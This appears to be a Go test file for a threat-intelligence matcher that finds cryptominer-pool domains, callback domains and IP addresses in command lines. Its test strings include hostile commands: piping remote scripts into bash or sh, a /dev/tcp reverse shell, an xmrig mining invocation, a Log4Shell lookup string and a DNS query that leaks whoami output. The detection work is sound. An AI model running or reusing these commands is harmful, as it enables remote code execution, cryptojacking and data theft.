package intel

import (
	"strings"
	"testing"
)

func TestFindDomain(t *testing.T) {
	s := testSet(t)
	tests := []struct {
		list, text string
		want       string // "" for no match
	}{
		{"miner-pools", "curl -s http://x.supportxmr.com:3333/a", "x.supportxmr.com"},
		{"miner-pools", "./xmrig -o stratum+tcp://pool.supportxmr.com:443 -u 44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A -k --tls", "pool.supportxmr.com"},
		{"miner-pools", "/tmp/kdevtmpfsi --url=XMR-EU1.NANOPOOL.ORG:14433", "XMR-EU1.NANOPOOL.ORG"},
		{"miner-pools", `sh -c "wget -q -O- gulf.moneroocean.stream:10128"`, "gulf.moneroocean.stream"},
		{"miner-pools", "ssh miner@rig.2miners.com", "rig.2miners.com"},
		{"miner-pools", "xmrig -opool.hashvault.pro:3333", "opool.hashvault.pro"},
		{"miner-pools", "xmrig -o 'pool.hashvault.pro.' -u x", "pool.hashvault.pro"},
		{"miner-pools", "echo http%3A%2F%2Fpool.minexmr.com%2F", "2Fpool.minexmr.com"},
		{"miner-pools", "ping c3pool.com", "c3pool.com"},
		{"miner-pools", "connect to [pool.mine.example]", "pool.mine.example"},
		{"miner-pools", "curl https://supportxmr.com.evil.example/x", ""},
		{"miner-pools", "curl https://notsupportxmr.com/x", ""},
		{"miner-pools", "grep supportxmr /etc/hosts", ""},
		{"miner-pools", "cat /var/log/supportxmr.com.log", ""}, // a file name
		{"miner-pools", "nslookup 1.2.3.4", ""},
		{"miner-pools", "kubectl get pods -n kube-system -o wide", ""},
		{"miner-pools", "", ""},
		{"miner-pools", "....", ""},
		{"miner-pools", "---.---", ""},
		{"miner-pools", "é.supportxmr.com", "supportxmr.com"}, // non-ASCII separates
		{"oast-domains", "curl http://${jndi:ldap://abc.oast.fun/a}", "abc.oast.fun"},
		{"oast-domains", "nslookup $(whoami).c5kq.dnslog.cn", "c5kq.dnslog.cn"},
		{"oast-domains", "wget https://webhook.site/8f9e", "webhook.site"},
		{"malicious-domains", "curl -sL http://chimaera.cc/cmd/init.sh | bash", "chimaera.cc"},
		{"malicious-domains", "curl http://mdc-eicar.alerts.security.azure.com?SendingData", "mdc-eicar.alerts.security.azure.com"},
		{"miner-binaries", "xmrig.com", ""}, // not a domain list
		{"no-such-list", "supportxmr.com", ""},
	}
	for _, tt := range tests {
		got, ok := s.FindDomain(tt.list, tt.text)
		if got != tt.want || ok != (tt.want != "") {
			t.Errorf("FindDomain(%q, %q) = %q, %v; want %q", tt.list, tt.text, got, ok, tt.want)
		}
	}
}

func TestFindDomainFirst(t *testing.T) {
	s := testSet(t)
	got, _ := s.FindDomain("miner-pools", "-o a.nanopool.org -o b.supportxmr.com")
	if got != "a.nanopool.org" {
		t.Errorf("got %q, want the first match", got)
	}
}

func TestFindIP(t *testing.T) {
	s := testSet(t)
	tests := []struct {
		text, want string
	}{
		{"curl http://192.0.2.1/x.sh | sh", "192.0.2.1"},
		{"curl http://198.51.100.7:8080/x.sh | sh", "198.51.100.7"},
		{"bash -i >& /dev/tcp/198.51.100.7/4444 0>&1", "198.51.100.7"},
		{"ssh root@198.51.100.200", "198.51.100.200"},
		{"connected to 198.51.100.3.", "198.51.100.3"},
		{"xmrig -o 198.51.100.9:3333", "198.51.100.9"},
		{"curl http://[2001:db8::1]:8080/", "2001:db8::1"},
		{"nc 2001:db8:bad::beef 443", "2001:db8:bad::beef"},
		{"ping ::ffff:192.0.2.1", "::ffff:192.0.2.1"},
		{"wget -q -O - http://195.3.146.118/unk.sh | sh", "195.3.146.118"},
		{"curl 192.0.2.2 198.51.100.1", "198.51.100.1"},
		{"curl http://192.0.2.2/", ""},
		{"curl http://203.0.113.1/", ""},
		{"echo version 1.2.3.4.5", ""},
		{"date 12:30:00", ""},
		{"echo deadbeef:cafe", ""},
		{"curl http://a192.0.2.1/", ""},
		{"echo 192.0.2.1:http", ""},
		{"", ""},
	}
	for _, tt := range tests {
		got, ok := s.FindIP(tt.text)
		if got != tt.want || ok != (tt.want != "") {
			t.Errorf("FindIP(%q) = %q, %v; want %q", tt.text, got, ok, tt.want)
		}
	}
	if _, ok := (&Set{}).FindIP("192.0.2.1"); ok {
		t.Error("an empty Set matched")
	}
}

func TestAddrText(t *testing.T) {
	for tok, want := range map[string]string{
		"192.0.2.1":                   "192.0.2.1",
		"192.0.2.1:80":                "192.0.2.1",
		"192.0.2.1.":                  "192.0.2.1",
		"192.0.2.1:":                  "",
		"1.2.3":                       "",
		"1.2.3.4.5":                   "",
		"a.b.c.d":                     "",
		"::1":                         "::1",
		"1:2:3:4:5:6:7:8":             "1:2:3:4:5:6:7:8",
		"1:2:3:4:5:6:1.2.3":           "1:2:3:4:5:6:1.2.3",
		"12:30:00":                    "",
		"1:2:3:4:5:6:7":               "",
		strings.Repeat("1:", 9) + ":": "",
	} {
		if got := addrText(tok); got != want {
			t.Errorf("addrText(%q) = %q, want %q", tok, got, want)
		}
	}
}
